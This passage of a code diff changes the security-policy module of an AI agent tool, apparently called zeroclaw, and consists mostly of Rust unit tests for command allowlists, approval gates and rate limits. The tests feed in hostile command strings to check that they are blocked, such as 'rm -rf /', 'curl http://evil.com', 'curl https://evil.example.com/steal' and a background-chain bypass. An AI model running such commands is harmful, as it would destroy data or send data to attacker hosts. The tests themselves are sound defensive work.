+                            workspace_dir.join(expanded)
+                        }
+                    })
+                    .collect(),
+            },
+            dry_run: autonomy_config.dry_run,
+            approval_hook: None,
+            pending_approvals: PendingApprovals::default(),
+            audit_logger: None,
+            action_bucket: Arc::new(ActionBucket::new()),
+            tool_trackers: Arc::default(),
+            session_actions: Arc::default(),
+            charge_lock: ChargeLock::default(),
+            denial_streaks: Arc::default(),
+            memory_write_tracker: Arc::new(ActionTracker::with_window(MEMORY_QUOTA_WINDOW)),
+            llm_usage: Arc::default(),
+            state_dir: None,
+            memory_key_file: None,
+        }
+    }
+
+    /// [`Self::from_config`] for the agent's own config, keeping policy state
+    /// in `<config dir>/state/` ([`Self::state_dir_for`]), where tools cannot
+    /// reach it. Escalation grants are read from there, and the action
+    /// bucket level is saved there unless `persist_rate_limit` is off.
+    pub fn from_root_config(config: &crate::config::Config) -> Self {
+        let mut policy = Self::from_config(&config.autonomy, &config.workspace_dir);
+        let state_dir = Self::state_dir_for(config);
+        if config.autonomy.persist_rate_limit {
+            policy.action_bucket = Arc::new(ActionBucket::persistent(
+                state_dir.join(RATE_LIMIT_STATE_FILE),
+            ));
+        }
+        policy.state_dir = Some(state_dir);
+        if config.memory.encrypt_at_rest {
+            policy.memory_key_file = Some(crate::memory::encrypted::resolve_key_path(
+                &config.memory,
+                &config.workspace_dir,
+            ));
+        }
+        policy
+    }
+
+    /// Policy state directory of `config`: `state/` next to its config file.
+    pub fn state_dir_for(config: &crate::config::Config) -> PathBuf {
+        config
+            .config_path
+            .parent()
+            .map_or_else(|| PathBuf::from("state"), |dir| dir.join("state"))
+    }
+
+    /// Build a policy from a standalone TOML file holding the keys of an
+    /// `[autonomy]` section plus `workspace_dir` (relative paths resolve
+    /// against the file's directory). Keys left out take their defaults.
+    pub fn from_file(path: &Path) -> anyhow::Result<Self> {
+        let (autonomy, workspace_dir) = load_policy_file(path)?;
+        Ok(Self::from_config(&autonomy, &workspace_dir))
+    }
+}
+
+/// Key a policy file sets besides those of [`crate::config::AutonomyConfig`].
+const POLICY_FILE_WORKSPACE_KEY: &str = "workspace_dir";
+
+/// Parse and validate a policy file for [`SecurityPolicy::from_file`].
+/// Every error names the file and, where there is one, the offending key.
+pub fn load_policy_file(path: &Path) -> anyhow::Result<(crate::config::AutonomyConfig, PathBuf)> {
+    use anyhow::Context;
+
+    let raw = std::fs::read_to_string(path)
+        .with_context(|| format!("Failed to read policy file {}", path.display()))?;
+    let mut table: toml::Table =
+        toml::from_str(&raw).with_context(|| format!("{} is not valid TOML", path.display()))?;
+
+    let workspace_dir = match table.remove(POLICY_FILE_WORKSPACE_KEY) {
+        Some(toml::Value::String(dir)) if !dir.trim().is_empty() => {
+            let dir = expand_user_path(dir.trim());
+            if dir.is_absolute() {
+                dir
+            } else {
+                path.parent().unwrap_or_else(|| Path::new(".")).join(dir)
+            }
+        }
+        Some(_) => anyhow::bail!(
+            "{}: `{POLICY_FILE_WORKSPACE_KEY}` must be a non-empty path string",
+            path.display()
+        ),
+        None => anyhow::bail!(
+            "{}: missing `{POLICY_FILE_WORKSPACE_KEY}`; set it to the directory the policy governs",
+            path.display()
+        ),
+    };
+
+    let schema = schemars::schema_for!(crate::config::AutonomyConfig);
+    if let Some(known) = schema
+        .get("properties")
+        .and_then(serde_json::Value::as_object)
+    {
+        if let Some(unknown) = table.keys().find(|key| !known.contains_key(key.as_str())) {
+            anyhow::bail!(
+                "{}: unknown key `{unknown}`; policy files accept `{POLICY_FILE_WORKSPACE_KEY}` and the [autonomy] keys listed by `zeroclaw config schema`",
+                path.display()
+            );
+        }
+    }
+
+    // Missing keys take the defaults. Deserialization errors name the key.
+    let mut merged = toml::Table::try_from(crate::config::AutonomyConfig::default())
+        .context("Failed to encode default autonomy settings")?;
+    merged.extend(table);
+    let autonomy = crate::config::AutonomyConfig::deserialize(toml::Value::Table(merged))
+        .map_err(|e| anyhow::anyhow!("{}: {e}", path.display()))?;
+    autonomy
+        .validate()
+        .with_context(|| format!("{}: invalid policy", path.display()))?;
+
+    Ok((autonomy, workspace_dir))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::security::pending_approvals::ApprovalStatus;
+
+    fn default_policy() -> SecurityPolicy {
+        SecurityPolicy::default()
+    }
+
+    fn readonly_policy() -> SecurityPolicy {
+        SecurityPolicy {
+            autonomy: AutonomyLevel::ReadOnly,
+            ..SecurityPolicy::default()
+        }
+    }
+
+    fn full_policy() -> SecurityPolicy {
+        SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            ..SecurityPolicy::default()
+        }
+    }
+
+    // ── AutonomyLevel ────────────────────────────────────────
+
+    #[test]
+    fn autonomy_default_is_supervised() {
+        assert_eq!(AutonomyLevel::default(), AutonomyLevel::Supervised);
+    }
+
+    #[test]
+    fn autonomy_serde_roundtrip() {
+        let json = serde_json::to_string(&AutonomyLevel::Full).unwrap();
+        assert_eq!(json, "\"full\"");
+        let parsed: AutonomyLevel = serde_json::from_str("\"readonly\"").unwrap();
+        assert_eq!(parsed, AutonomyLevel::ReadOnly);
+        let parsed2: AutonomyLevel = serde_json::from_str("\"supervised\"").unwrap();
+        assert_eq!(parsed2, AutonomyLevel::Supervised);
+    }
+
+    #[test]
+    fn can_act_readonly_false() {
+        assert!(!readonly_policy().can_act());
+    }
+
+    #[test]
+    fn can_act_supervised_true() {
+        assert!(default_policy().can_act());
+    }
+
+    #[test]
+    fn can_act_full_true() {
+        assert!(full_policy().can_act());
+    }
+
+    #[test]
+    fn enforce_tool_operation_read_allowed_in_readonly_mode() {
+        let p = readonly_policy();
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Read, "memory_recall")
+            .is_ok());
+    }
+
+    #[test]
+    fn enforce_tool_operation_act_blocked_in_readonly_mode() {
+        let p = readonly_policy();
+        let err = p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("read-only mode"));
+    }
+
+    #[test]
+    fn enforce_tool_operation_act_uses_rate_budget() {
+        let p = SecurityPolicy {
+            max_actions_per_hour: 0,
+            ..default_policy()
+        };
+        let err = p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("Rate limit exceeded"));
+    }
+
+    #[test]
+    fn enforce_tool_operation_honors_tool_allow_and_deny_lists() {
+        let p = SecurityPolicy {
+            allowed_tools: vec!["memory_store".into(), "File_Read".into()],
+            denied_tools: vec!["memory_store".into()],
+            ..default_policy()
+        };
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Read, "file_read")
+            .is_ok());
+        let err = p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .unwrap_err()
+            .to_string();
+        assert!(err.contains("disabled"));
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Read, "process")
+            .is_err());
+        // Denied tools do not spend the action budget.
+        assert_eq!(p.remaining_actions(), p.max_actions_per_hour);
+
+        let deny_all = SecurityPolicy {
+            denied_tools: vec!["*".into()],
+            ..default_policy()
+        };
+        assert!(!deny_all.is_tool_allowed("file_read"));
+        assert!(default_policy().is_tool_allowed("shell"));
+    }
+
+    #[derive(Debug)]
+    struct ScriptedHook {
+        answer: ApprovalResponse,
+        asked: Mutex<Vec<String>>,
+    }
+
+    #[async_trait]
+    impl ApprovalHook for ScriptedHook {
+        async fn request_approval(&self, request: &ApprovalRequest) -> ApprovalResponse {
+            self.asked.lock().push(request.tool_name.clone());
+            self.answer
+        }
+    }
+
+    fn hooked_policy(autonomy: AutonomyLevel, answer: ApprovalResponse) -> SecurityPolicy {
+        SecurityPolicy {
+            autonomy,
+            approval_hook: Some(Arc::new(ScriptedHook {
+                answer,
+                asked: Mutex::new(Vec::new()),
+            })),
+            ..default_policy()
+        }
+    }
+
+    async fn answer(
+        p: &SecurityPolicy,
+        operation: ToolOperation,
+        tool_name: &str,
+    ) -> Option<ApprovalStatus> {
+        let ticket = p
+            .request_approval(operation, tool_name, &serde_json::json!({}))
+            .unwrap()?;
+        Some(ticket.answer().await)
+    }
+
+    #[tokio::test]
+    async fn request_approval_asks_hook_in_supervised_mode() {
+        let p = hooked_policy(AutonomyLevel::Supervised, ApprovalResponse::No);
+        assert_eq!(
+            answer(&p, ToolOperation::Act, "memory_store").await,
+            Some(ApprovalStatus::Denied)
+        );
+        assert_eq!(answer(&p, ToolOperation::Read, "memory_recall").await, None);
+
+        let p = hooked_policy(AutonomyLevel::Supervised, ApprovalResponse::Yes);
+        assert_eq!(
+            answer(&p, ToolOperation::Act, "memory_store").await,
+            Some(ApprovalStatus::Approved)
+        );
+        // Asking charges nothing; the call's own check does once it runs.
+        assert_eq!(p.remaining_actions(), p.max_actions_per_hour);
+    }
+
+    #[tokio::test]
+    async fn request_approval_skips_hook_when_autonomous() {
+        for level in [AutonomyLevel::Autonomous, AutonomyLevel::Full] {
+            let p = hooked_policy(level, ApprovalResponse::No);
+            assert_eq!(answer(&p, ToolOperation::Act, "memory_store").await, None);
+        }
+        assert_eq!(
+            "autonomous".parse::<AutonomyLevel>().unwrap(),
+            AutonomyLevel::Autonomous
+        );
+        let parsed: AutonomyLevel = serde_json::from_str("\"autonomous\"").unwrap();
+        assert_eq!(parsed, AutonomyLevel::Autonomous);
+        assert!(AutonomyLevel::Supervised < AutonomyLevel::Autonomous);
+        assert!(AutonomyLevel::Autonomous < AutonomyLevel::Full);
+    }
+
+    #[tokio::test]
+    async fn calls_the_policy_refuses_are_not_put_to_the_operator() {
+        let p = SecurityPolicy {
+            max_actions_per_hour: 1,
+            ..hooked_policy(AutonomyLevel::Supervised, ApprovalResponse::Yes)
+        };
+        let args = serde_json::json!({});
+        assert!(p
+            .enforce_tool_operation(ToolOperation::Act, "memory_store")
+            .is_ok());
+        let denial = p
+            .request_approval(ToolOperation::Act, "memory_store", &args)
+            .unwrap_err();
+        assert!(matches!(denial, PolicyDenial::RateLimited { .. }));
+        assert!(p.pending_approvals.is_empty());
+    }
+
+    #[test]
+    fn autonomous_level_still_needs_approval_for_high_risk_commands() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Autonomous,
+            block_high_risk_commands: false,
+            allowed_commands: vec!["*".into()],
+            ..SecurityPolicy::default()
+        };
+        assert!(p
+            .validate_command_execution("touch notes.md", false)
+            .is_ok());
+        let err = p
+            .validate_command_execution("rm build.log", false)
+            .unwrap_err();
+        assert!(err.contains("requires explicit approval"));
+        assert!(p.validate_command_execution("rm build.log", true).is_ok());
+    }
+
+    // ── is_command_allowed ───────────────────────────────────
+
+    #[test]
+    fn allowed_commands_basic() {
+        let p = default_policy();
+        assert!(p.is_command_allowed("ls"));
+        assert!(p.is_command_allowed("git status"));
+        assert!(p.is_command_allowed("cargo build --release"));
+        assert!(p.is_command_allowed("mkdir -p docs"));
+        assert!(p.is_command_allowed("touch notes.md"));
+        assert!(p.is_command_allowed("cat file.txt"));
+        assert!(p.is_command_allowed("grep -r pattern ."));
+        assert!(p.is_command_allowed("date"));
+    }
+
+    #[test]
+    fn blocked_commands_basic() {
+        let p = default_policy();
+        assert!(!p.is_command_allowed("rm -rf /"));
+        assert!(!p.is_command_allowed("sudo apt install"));
+        assert!(!p.is_command_allowed("curl http://evil.com"));
+        assert!(!p.is_command_allowed("wget http://evil.com"));
+        assert!(!p.is_command_allowed("python3 exploit.py"));
+        assert!(!p.is_command_allowed("node malicious.js"));
+    }
 
-        // Reject "~user" forms because the shell expands them at runtime and
-        // they can escape workspace policy.
-        if path.starts_with('~') && path != "~" && !path.starts_with("~/") {
-            return false;
-        }
+    #[test]
+    fn readonly_blocks_all_commands() {
+        let p = readonly_policy();
+        assert!(!p.is_command_allowed("ls"));
+        assert!(!p.is_command_allowed("cat file.txt"));
+        assert!(!p.is_command_allowed("echo hello"));
+    }
 
-        // Expand "~" for consistent matching with forbidden paths and allowlists.
-        let expanded_path = expand_user_path(path);
+    #[test]
+    fn full_autonomy_still_uses_allowlist() {
+        let p = full_policy();
+        assert!(p.is_command_allowed("ls"));
+        assert!(!p.is_command_allowed("rm -rf /"));
+    }
 
-        // Block absolute paths when workspace_only is set
-        if self.workspace_only && expanded_path.is_absolute() {
-            return false;
-        }
+    #[test]
+    fn command_with_absolute_path_extracts_basename() {
+        let p = default_policy();
+        assert!(p.is_command_allowed("/usr/bin/git status"));
+        assert!(p.is_command_allowed("/bin/ls -la"));
+    }
 
-        // Block forbidden paths using path-component-aware matching
-        for forbidden in &self.forbidden_paths {
-            let forbidden_path = expand_user_path(forbidden);
-            if expanded_path.starts_with(forbidden_path) {
-                return false;
-            }
-        }
+    #[test]
+    fn allowlist_supports_explicit_executable_paths() {
+        let p = SecurityPolicy {
+            allowed_commands: vec!["/usr/bin/antigravity".into()],
+            ..SecurityPolicy::default()
+        };
 
-        true
+        assert!(p.is_command_allowed("/usr/bin/antigravity"));
+        assert!(!p.is_command_allowed("antigravity"));
     }
 
-    /// Validate that a resolved path is inside the workspace or an allowed root.
-    /// Call this AFTER joining `workspace_dir` + relative path and canonicalizing.
-    pub fn is_resolved_path_allowed(&self, resolved: &Path) -> bool {
-        // Prefer canonical workspace root so `/a/../b` style config paths don't
-        // cause false positives or negatives.
-        let workspace_root = self
-            .workspace_dir
-            .canonicalize()
-            .unwrap_or_else(|_| self.workspace_dir.clone());
-        if resolved.starts_with(&workspace_root) {
-            return true;
-        }
+    #[test]
+    fn allowlist_supports_wildcard_entry() {
+        let p = SecurityPolicy {
+            allowed_commands: vec!["*".into()],
+            ..SecurityPolicy::default()
+        };
 
-        // Check extra allowed roots (e.g. shared skills directories) before
-        // forbidden checks so explicit allowlists can coexist with broad
-        // default forbidden roots such as `/home` and `/tmp`.
-        for root in &self.allowed_roots {
-            let canonical = root.canonicalize().unwrap_or_else(|_| root.clone());
-            if resolved.starts_with(&canonical) {
-                return true;
-            }
-        }
+        assert!(p.is_command_allowed("python3 --version"));
+        assert!(p.is_command_allowed("/usr/bin/antigravity"));
 
-        // For paths outside workspace/allowlist, block forbidden roots to
-        // prevent symlink escapes and sensitive directory access.
-        for forbidden in &self.forbidden_paths {
-            let forbidden_path = expand_user_path(forbidden);
-            if resolved.starts_with(&forbidden_path) {
-                return false;
-            }
-        }
+        // Wildcard still respects risk gates in validate_command_execution.
+        let blocked = p.validate_command_execution("rm -rf tmp_test_dir", true);
+        assert!(blocked.is_err());
+        assert!(blocked.unwrap_err().contains("high-risk"));
+    }
 
-        // When workspace_only is disabled the user explicitly opted out of
-        // workspace confinement after forbidden-path checks are applied.
-        if !self.workspace_only {
-            return true;
-        }
+    #[test]
+    fn empty_command_blocked() {
+        let p = default_policy();
+        assert!(!p.is_command_allowed(""));
+        assert!(!p.is_command_allowed("   "));
+    }
 
-        false
+    #[test]
+    fn command_with_pipes_validates_all_segments() {
+        let p = default_policy();
+        // Both sides of the pipe are in the allowlist
+        assert!(p.is_command_allowed("ls | grep foo"));
+        assert!(p.is_command_allowed("cat file.txt | wc -l"));
+        // Second command not in allowlist — blocked
+        assert!(!p.is_command_allowed("ls | curl http://evil.com"));
+        assert!(!p.is_command_allowed("echo hello | python3 -"));
     }
 
-    pub fn resolved_path_violation_message(&self, resolved: &Path) -> String {
-        let guidance = if self.allowed_roots.is_empty() {
-            "Add the directory to [autonomy].allowed_roots (for example: allowed_roots = [\"/absolute/path\"]), or move the file into the workspace."
-        } else {
-            "Add a matching parent directory to [autonomy].allowed_roots, or move the file into the workspace."
+    #[test]
+    fn custom_allowlist() {
+        let p = SecurityPolicy {
+            allowed_commands: vec!["docker".into(), "kubectl".into()],
+            ..SecurityPolicy::default()
         };
-
-        format!(
-            "Resolved path escapes workspace allowlist: {}. {}",
-            resolved.display(),
-            guidance
-        )
+        assert!(p.is_command_allowed("docker ps"));
+        assert!(p.is_command_allowed("kubectl get pods"));
+        assert!(!p.is_command_allowed("ls"));
+        assert!(!p.is_command_allowed("git status"));
     }
 
-    /// Check if autonomy level permits any action at all
-    pub fn can_act(&self) -> bool {
-        self.autonomy != AutonomyLevel::ReadOnly
+    #[test]
+    fn empty_allowlist_blocks_everything() {
+        let p = SecurityPolicy {
+            allowed_commands: vec![],
+            ..SecurityPolicy::default()
+        };
+        assert!(!p.is_command_allowed("ls"));
+        assert!(!p.is_command_allowed("echo hello"));
     }
 
-    // ── Tool Operation Gating ──────────────────────────────────────────────
-    // Read operations bypass autonomy and rate checks because they have
-    // no side effects. Act operations must pass both the autonomy gate
-    // (not read-only) and the sliding-window rate limiter.
+    #[test]
+    fn context_allow_rule_overrides_global_allowlist_for_curl_domain() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            allowed_commands: vec![],
+            command_context_rules: vec![CommandContextRule {
+                command: "curl".into(),
+                action: CommandContextRuleAction::Allow,
+                allowed_domains: vec!["api.example.com".into()],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: true,
+            }],
+            ..SecurityPolicy::default()
+        };
 
-    /// Enforce policy for a tool operation.
-    ///
-    /// Read operations are always allowed by autonomy/rate gates.
-    /// Act operations require non-readonly autonomy and available action budget.
-    pub fn enforce_tool_operation(
-        &self,
-        operation: ToolOperation,
-        operation_name: &str,
-    ) -> Result<(), String> {
-        match operation {
-            ToolOperation::Read => Ok(()),
-            ToolOperation::Act => {
-                if !self.can_act() {
-                    return Err(format!(
-                        "Security policy: read-only mode, cannot perform '{operation_name}'"
-                    ));
-                }
+        assert!(p.is_command_allowed("curl https://api.example.com/v1/health"));
+        assert!(p
+            .validate_command_execution("curl https://api.example.com/v1/health", true)
+            .is_ok());
+    }
 
-                if !self.record_action() {
-                    return Err("Rate limit exceeded: action budget exhausted".to_string());
-                }
+    #[test]
+    fn context_allow_rule_restricts_curl_to_matching_domains() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            allowed_commands: vec!["curl".into()],
+            command_context_rules: vec![CommandContextRule {
+                command: "curl".into(),
+                action: CommandContextRuleAction::Allow,
+                allowed_domains: vec!["api.example.com".into()],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: true,
+            }],
+            ..SecurityPolicy::default()
+        };
 
-                Ok(())
-            }
-        }
+        assert!(!p.is_command_allowed("curl https://evil.example.com/steal"));
+        let err = p
+            .validate_command_execution("curl https://evil.example.com/steal", true)
+            .expect_err("non-matching domains should be denied by context rules");
+        assert!(err.contains("context rule denied"));
     }
 
-    /// Record an action and check if the rate limit has been exceeded.
-    /// Returns `true` if the action is allowed, `false` if rate-limited.
-    pub fn record_action(&self) -> bool {
-        let count = self.tracker.record();
-        count <= self.max_actions_per_hour as usize
+    #[test]
+    fn context_allow_rule_restricts_rm_to_allowed_path_prefix() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            workspace_only: false,
+            allowed_commands: vec!["rm".into()],
+            forbidden_paths: vec![],
+            command_context_rules: vec![CommandContextRule {
+                command: "rm".into(),
+                action: CommandContextRuleAction::Allow,
+                allowed_domains: vec![],
+                allowed_path_prefixes: vec!["/tmp".into()],
+                denied_path_prefixes: vec![],
+                allow_high_risk: true,
+            }],
+            ..SecurityPolicy::default()
+        };
+
+        assert!(p.is_command_allowed("rm -rf /tmp/cleanup"));
+        assert!(p
+            .validate_command_execution("rm -rf /tmp/cleanup", true)
+            .is_ok());
+
+        assert!(!p.is_command_allowed("rm -rf /var/log"));
+        let err = p
+            .validate_command_execution("rm -rf /var/log", true)
+            .expect_err("paths outside /tmp should be denied");
+        assert!(err.contains("context rule denied"));
     }
 
-    /// Check if the rate limit would be exceeded without recording.
-    pub fn is_rate_limited(&self) -> bool {
-        self.tracker.count() >= self.max_actions_per_hour as usize
+    #[test]
+    fn context_deny_rule_can_block_specific_domain_even_when_allowlisted() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            block_high_risk_commands: false,
+            allowed_commands: vec!["curl".into()],
+            command_context_rules: vec![CommandContextRule {
+                command: "curl".into(),
+                action: CommandContextRuleAction::Deny,
+                allowed_domains: vec!["evil.example.com".into()],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: false,
+            }],
+            ..SecurityPolicy::default()
+        };
+
+        assert!(p.is_command_allowed("curl https://api.example.com/v1/health"));
+        assert!(!p.is_command_allowed("curl https://evil.example.com/steal"));
     }
 
-    /// Build from config sections
-    /// Produce a concise security-constraint summary suitable for periodic
-    /// re-injection into the conversation (safety heartbeat).
-    ///
-    /// The output is intentionally short (~100-150 tokens) so the token
-    /// overhead per heartbeat is negligible.
-    pub fn summary_for_heartbeat(&self) -> String {
-        let autonomy_label = match self.autonomy {
-            AutonomyLevel::ReadOnly => "read_only — side-effecting actions are blocked",
-            AutonomyLevel::Supervised => "supervised — destructive actions require approval",
-            AutonomyLevel::Full => "full — autonomous execution within policy bounds",
+    #[test]
+    fn context_require_approval_rule_demands_approval_for_matching_low_risk_command() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Supervised,
+            require_approval_for_medium_risk: false,
+            allowed_commands: vec!["ls".into()],
+            command_context_rules: vec![CommandContextRule {
+                command: "ls".into(),
+                action: CommandContextRuleAction::RequireApproval,
+                allowed_domains: vec![],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: false,
+            }],
+            ..SecurityPolicy::default()
         };
 
-        let workspace = self.workspace_dir.display();
-        let ws_only = self.workspace_only;
+        let denied = p.validate_command_execution("ls -la", false);
+        assert!(denied.is_err());
+        assert!(denied.unwrap_err().contains("requires explicit approval"));
 
-        let forbidden_preview: String = {
-            let shown: Vec<&str> = self
-                .forbidden_paths
-                .iter()
-                .take(8)
-                .map(String::as_str)
-                .collect();
-            let remaining = self.forbidden_paths.len().saturating_sub(8);
-            if remaining > 0 {
-                format!("{} (+ {} more)", shown.join(", "), remaining)
-            } else {
-                shown.join(", ")
-            }
-        };
+        let allowed = p.validate_command_execution("ls -la", true);
+        assert_eq!(allowed.unwrap(), CommandRiskLevel::Low);
+    }
 
-        let commands_preview: String = {
-            let shown: Vec<&str> = self
-                .allowed_commands
-                .iter()
-                .take(8)
-                .map(String::as_str)
-                .collect();
-            let remaining = self.allowed_commands.len().saturating_sub(8);
-            if remaining > 0 {
-                format!("{} (+ {} more rejected)", shown.join(", "), remaining)
-            } else if shown.is_empty() {
-                "none (all rejected)".to_string()
-            } else {
-                format!("{} (others rejected)", shown.join(", "))
-            }
-        };
-        let context_rules = if self.command_context_rules.is_empty() {
-            "none".to_string()
-        } else {
-            format!("{} configured", self.command_context_rules.len())
+    #[test]
+    fn context_require_approval_rule_is_still_constrained_by_domains() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Supervised,
+            block_high_risk_commands: false,
+            allowed_commands: vec!["curl".into()],
+            command_context_rules: vec![CommandContextRule {
+                command: "curl".into(),
+                action: CommandContextRuleAction::RequireApproval,
+                allowed_domains: vec!["api.example.com".into()],
+                allowed_path_prefixes: vec![],
+                denied_path_prefixes: vec![],
+                allow_high_risk: false,
+            }],
+            ..SecurityPolicy::default()
         };
 
-        let high_risk = if self.block_high_risk_commands {
-            "blocked"
-        } else {
-            "allowed (caution)"
-        };
+        // Non-matching domain does not trigger the context approval rule.
+        let unmatched = p.validate_command_execution("curl https://other.example.com/health", true);
+        assert_eq!(unmatched.unwrap(), CommandRiskLevel::High);
 
-        format!(
-            "- Autonomy: {autonomy_label}\n\
-             - Workspace: {workspace} (workspace_only: {ws_only})\n\
-             - Forbidden paths: {forbidden_preview}\n\
-             - Allowed commands: {commands_preview}\n\
-             - Command context rules: {context_rules}\n\
-             - High-risk commands: {high_risk}\n\
-             - Do not exfiltrate data, bypass approval, or run destructive commands without asking."
-        )
+        // Matching domain triggers explicit approval requirement.
+        let denied = p.validate_command_execution("curl https://api.example.com/v1/health", false);
+        assert!(denied.is_err());
+        assert!(denied.unwrap_err().contains("requires explicit approval"));
     }
 
-    pub fn from_config(
-        autonomy_config: &crate::config::AutonomyConfig,
-        workspace_dir: &Path,
-    ) -> Self {
-        Self {
-            autonomy: autonomy_config.level,
-            workspace_dir: workspace_dir.to_path_buf(),
-            workspace_only: autonomy_config.workspace_only,
-            allowed_commands: autonomy_config.allowed_commands.clone(),
-            command_context_rules: autonomy_config
-                .command_context_rules
-                .iter()
-                .map(|rule| CommandContextRule {
-                    command: rule.command.clone(),
-                    action: match rule.action {
-                        crate::config::CommandContextRuleAction::Allow => {
-                            CommandContextRuleAction::Allow
-                        }
-                        crate::config::CommandContextRuleAction::Deny => {
-                            CommandContextRuleAction::Deny
-                        }
-                        crate::config::CommandContextRuleAction::RequireApproval => {
-                            CommandContextRuleAction::RequireApproval
-                        }
-                    },
-                    allowed_domains: rule.allowed_domains.clone(),
-                    allowed_path_prefixes: rule.allowed_path_prefixes.clone(),
-                    denied_path_prefixes: rule.denied_path_prefixes.clone(),
-                    allow_high_risk: rule.allow_high_risk,
-                })
-                .collect(),
-            forbidden_paths: autonomy_config.forbidden_paths.clone(),
-            allowed_roots: autonomy_config
-                .allowed_roots
-                .iter()
-                .map(|root| {
-                    let expanded = expand_user_path(root);
-                    if expanded.is_absolute() {
-                        expanded
-                    } else {
-                        workspace_dir.join(expanded)
-                    }
-                })
-                .collect(),
-            max_actions_per_hour: autonomy_config.max_actions_per_hour,
-            max_cost_per_day_cents: autonomy_config.max_cost_per_day_cents,
-            require_approval_for_medium_risk: autonomy_config.require_approval_for_medium_risk,
-            block_high_risk_commands: autonomy_config.block_high_risk_commands,
-            shell_env_passthrough: autonomy_config.shell_env_passthrough.clone(),
-            allow_sensitive_file_reads: autonomy_config.allow_sensitive_file_reads,
-            allow_sensitive_file_writes: autonomy_config.allow_sensitive_file_writes,
-            tracker: ActionTracker::new(),
-        }
+    #[test]
+    fn command_risk_low_for_read_commands() {
+        let p = default_policy();
+        assert_eq!(p.command_risk_level("git status"), CommandRiskLevel::Low);
+        assert_eq!(p.command_risk_level("ls -la"), CommandRiskLevel::Low);
     }
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
 
-    fn default_policy() -> SecurityPolicy {
-        SecurityPolicy::default()
+    #[test]
+    fn command_risk_medium_for_mutating_commands() {
+        let p = SecurityPolicy {
+            allowed_commands: vec!["git".into(), "touch".into()],
+            ..SecurityPolicy::default()
+        };
+        assert_eq!(
+            p.command_risk_level("git reset --hard HEAD~1"),
+            CommandRiskLevel::Medium
+        );
+        assert_eq!(
+            p.command_risk_level("touch file.txt"),
+            CommandRiskLevel::Medium
+        );
     }
 
-    fn readonly_policy() -> SecurityPolicy {
-        SecurityPolicy {
-            autonomy: AutonomyLevel::ReadOnly,
+    #[test]
+    fn command_risk_high_for_dangerous_commands() {
+        let p = SecurityPolicy {
+            allowed_commands: vec!["rm".into()],
             ..SecurityPolicy::default()
-        }
+        };
+        assert_eq!(
+            p.command_risk_level("rm -rf /tmp/test"),
+            CommandRiskLevel::High
+        );
     }
 
-    fn full_policy() -> SecurityPolicy {
-        SecurityPolicy {
-            autonomy: AutonomyLevel::Full,
+    #[test]
+    fn validate_command_requires_approval_for_medium_risk() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Supervised,
+            require_approval_for_medium_risk: true,
+            allowed_commands: vec!["touch".into()],
             ..SecurityPolicy::default()
-        }
+        };
+
+        let denied = p.validate_command_execution("touch test.txt", false);
+        assert!(denied.is_err());
+        assert!(denied.unwrap_err().contains("requires explicit approval"),);
+
+        let allowed = p.validate_command_execution("touch test.txt", true);
+        assert_eq!(allowed.unwrap(), CommandRiskLevel::Medium);
     }
 
-    // ── AutonomyLevel ────────────────────────────────────────
+    #[test]
+    fn validate_command_blocks_high_risk_by_default() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Supervised,
+            allowed_commands: vec!["rm".into()],
+            ..SecurityPolicy::default()
+        };
+
+        let result = p.validate_command_execution("rm -rf tmp_test_dir", true);
+        assert!(result.is_err());
+        assert!(result.unwrap_err().contains("high-risk"));
+    }
 
     #[test]
-    fn autonomy_default_is_supervised() {
-        assert_eq!(AutonomyLevel::default(), AutonomyLevel::Supervised);
+    fn validate_command_full_mode_skips_medium_risk_approval_gate() {
+        let p = SecurityPolicy {
+            autonomy: AutonomyLevel::Full,
+            require_approval_for_medium_risk: true,
+            allowed_commands: vec!["touch".into()],
+            ..SecurityPolicy::default()
+        };
+
+        let result = p.validate_command_execution("touch test.txt", false);
+        assert_eq!(result.unwrap(), CommandRiskLevel::Medium);
     }
 
     #[test]
-    fn autonomy_serde_roundtrip() {
-        let json = serde_json::to_string(&AutonomyLevel::Full).unwrap();
-        assert_eq!(json, "\"full\"");
-        let parsed: AutonomyLevel = serde_json::from_str("\"readonly\"").unwrap();
-        assert_eq!(parsed, AutonomyLevel::ReadOnly);
-        let parsed2: AutonomyLevel = serde_json::from_str("\"supervised\"").unwrap();
-        assert_eq!(parsed2, AutonomyLevel::Supervised);
+    fn validate_command_rejects_background_chain_bypass() {
+        let p = default_policy();
+        let result = p.validate_command_execution("ls & python3 -c 'print(1)'", false);
+        assert!(result.is_err());
+        assert!(result.unwrap_err().contains("not allowed"));
     }
 
-    #[test]
-    fn can_act_readonly_false() {
-        assert!(!readonly_policy().can_act());
-    }
+    // ── is_path_allowed ─────────────────────────────────────
 
     #[test]
-    fn can_act_supervised_true() {
-        assert!(default_policy().can_act());
+    fn relative_paths_allowed() {
+        let p = default_policy();
+        assert!(p.is_path_allowed("file.txt"));
+        assert!(p.is_path_allowed("src/main.rs"));
+        assert!(p.is_path_allowed("deep/nested/dir/file.txt"));
     }
 
     #[test]
-    fn can_act_full_true() {
-        assert!(full_policy().can_act());
+    fn path_traversal_blocked() {
+        let p = default_policy();
